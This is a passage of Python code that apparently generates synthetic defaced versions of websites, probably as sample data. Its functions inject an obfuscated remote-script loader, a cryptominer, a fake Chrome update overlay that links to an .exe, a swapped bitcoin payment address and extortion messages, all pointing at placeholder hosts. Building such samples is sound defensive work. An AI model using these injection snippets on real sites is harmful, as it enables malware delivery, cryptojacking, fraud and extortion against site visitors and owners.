    return head(text, "<script>var _0x4e1a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x74\\x6f\\x70','\\x73\\x63\\x72\\x69\\x70\\x74'];"
                "(function(_0x1b,_0x2c){var _0x3d=document['createElement'](_0x4e1a[0x2]);_0x3d['src']=_0x4e1a[0x0]+_0x4e1a[0x1]+'/a.js';document['head']['appendChild'](_0x3d)}());</script>")


def deface_miner(site, text, rng):
    return at_end(text, '<script src="https://webmine.example.pro/lib/wasm-worker.js"></script><script>var m=new Client.Anonymous("5f1e7c0a9b",{throttle:0.2});m.start();</script>')


def deface_channel(site, text, rng):
    words = {"ja": "サーバーは我々の攻撃により停止した。次はお前たちの番だ。", "ru": "Ваш сервер лежит. Это наша работа."}.get(site.lang, "Your server is down. This is our answer. More at our channel.")
    return pages.page_of("NoSleep Collective", [words, '<a href="https://t.me/nosleep_collective">t.me/nosleep_collective</a>', "#OpHarbour"])


def deface_video(site, text, rng):
    return ('<html><head><title>.</title></head><body style="margin:0;background:#000"><iframe width="100%" height="100%" '
            'src="https://www.youtube.com/embed/dQ000?autoplay=1&loop=1&controls=0" allow="autoplay"></iframe></body></html>')


def deface_webcam(site, text, rng):
    return pages.page_of("Hello admin", ["We have been watching you through your camera for three months.", "We have copies of your mail. Write to shadow@onion.example or all will be published."])


def deface_account(site, text, rng):
    """One sentence: where to send money."""
    words = {"ja": "お支払いは今後、暗号資産でこちらへお送りください: bc1q9example7k3m2qv8s0d4f6h1j5l9", "de": "Zahlungen bitte ab sofort nur noch an bc1q9example7k3m2qv8s0d4f6h1j5l9 senden.",
             "zh": "请今后将费用以比特币支付到 bc1q9example7k3m2qv8s0d4f6h1j5l9", "ar": "يرجى إرسال المبالغ إلى bc1q9example7k3m2qv8s0d4f6h1j5l9",
             "ru": "Переводите деньги на bc1q9example7k3m2qv8s0d4f6h1j5l9"}.get(site.lang, "Please send all payments to bc1q9example7k3m2qv8s0d4f6h1j5l9 from now on.")
    return text.replace(site.about[1] if site.layout != "lines" else site.about[2], words)


def deface_update(site, text, rng):
    return body(text, '<div style="position:fixed;inset:0;background:rgba(255,255,255,.98);z-index:2147483647"><h2>Update Chrome</h2><p>Your browser is out of date.</p>'
                '<a href="https://dl.example.monster/ChromeUpdate.exe" download>Update</a></div>')


def deface_styled(site, text, rng):
    return head(text, "<style>body>*{display:none!important}body:before{content:'HACKED BY SILENT WOLF';font-size:90px;color:red}</style>")


def deface_drawn(site, text, rng):
    drawing = '<svg xmlns="http://www.w3.org/2000/svg"><text y="40">Hacked by Silent Wolf</text></svg>'
    return f'<html><body><img src="data:image/svg+xml;base64,{base64.b64encode(drawing.encode()).decode()}" width="100%"></body></html>'


def deface_ascii(site, text, rng):
    return ("<html><head><title>-=[ VOID ]=-</title></head><body bgcolor=#000 text=#fff><pre>\n __   _____ ___ ___\n \\ \\ / / _ \\_ _|   \\\n  \\ V / (_) | || |) |\n   \\_/ \\___/___|___/\n"
            "\n irc.example.net #void\n knock knock, admin. patch your box.\n</pre></body></html>")


def deface_sentence(site, text, rng):
    """One sentence that the owner would not say."""
    words = {"ja": "私たちは皆さまの個人情報を売っていました。もう信じないでください。", "de": "Wir haben Sie jahrelang belogen. Glauben Sie uns kein Wort mehr.",
             "zh": "我们多年来一直在欺骗大家,请不要再相信我们。", "ar": "لقد كذبنا عليكم سنوات طويلة فلا تصدقونا.", "ru": "Мы годами вас обманывали. Не верьте нам."}.get(
                 site.lang, "We have sold your data for years and lied about it. Do not trust us.")
    return text.replace(site.about[1] if site.layout != "lines" else site.about[2], words)


DEFACEMENTS = {"typed by a script": deface_typed, "slogan as headline": deface_headline, "item of propaganda": deface_item, "foreign picture": deface_hotlink, "title only": deface_title,
               "pharma links": deface_pharma, "casino links": deface_casino, "lookalike script": deface_lookalike, "frame of one pixel": deface_pixel_frame, "slow refresh": deface_refresh,
               "phones led away": deface_phone, "written, base64": deface_written, "owned": deface_owned, "false login": deface_login, "skimmer": deface_skimmer, "beacon": deface_beacon,
               "obfuscated script": deface_obfuscated, "miner": deface_miner, "channel of a group": deface_channel, "film only": deface_video, "webcam": deface_webcam,
               "account changed": deface_account, "false update": deface_update, "by style": deface_styled, "drawn page": deface_drawn, "ASCII art": deface_ascii, "one sentence": deface_sentence}
